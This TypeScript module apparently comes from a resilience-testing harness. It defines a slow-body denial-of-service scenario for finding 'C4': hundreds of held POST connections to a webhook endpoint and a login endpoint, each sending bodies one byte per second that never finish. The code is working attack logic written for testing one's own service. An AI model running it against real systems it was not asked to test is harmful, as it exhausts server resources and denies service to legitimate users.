import { abuse } from '../abuse.ts';
import { headOf, heldConnections } from '../held-connections.ts';
import { together } from '../requests.ts';

const [callbacks, logins] = [150, 300];
const callbackBytes = 3_900_000;
const loginBytes = 1_000_000;
/** So many bytes are missing in the end that the trickle does not complete it in a round. */
const held = 1_000;

export const slowBodies = abuse<{ base: string }>({
  number: 4,
  finding: 'C4',
  what: `${callbacks} bodies of 3.9 MB without a signature and ${logins} logins of 1 MB, none of which ends`,
  victims: ['get'],
  hasWorker: false,
  prepare: ({ base }) => ({ base }),
  attack({ base }, tally) {
    const filler = Buffer.alloc(callbackBytes, 0x20);
    const head = (path: string, bytes: number) =>
      headOf('POST', path, { 'Content-Type': 'application/json', 'Content-Length': bytes });
    const shared = { base, byteEveryMs: 1_000, isPersistent: true };
    return together(
      heldConnections(
        {
          ...shared,
          name: 'callback',
          count: callbacks,
          first: [head('/v1/providers/messaging-app/webhook', callbackBytes), filler.subarray(held)],
        },
        tally,
      ),
      heldConnections(
        {
          ...shared,
          name: 'login',
          count: logins,
          first: [head('/v1/auth/login', loginBytes), filler.subarray(0, loginBytes - held)],
        },
        tally,
      ),
    );
  },
});
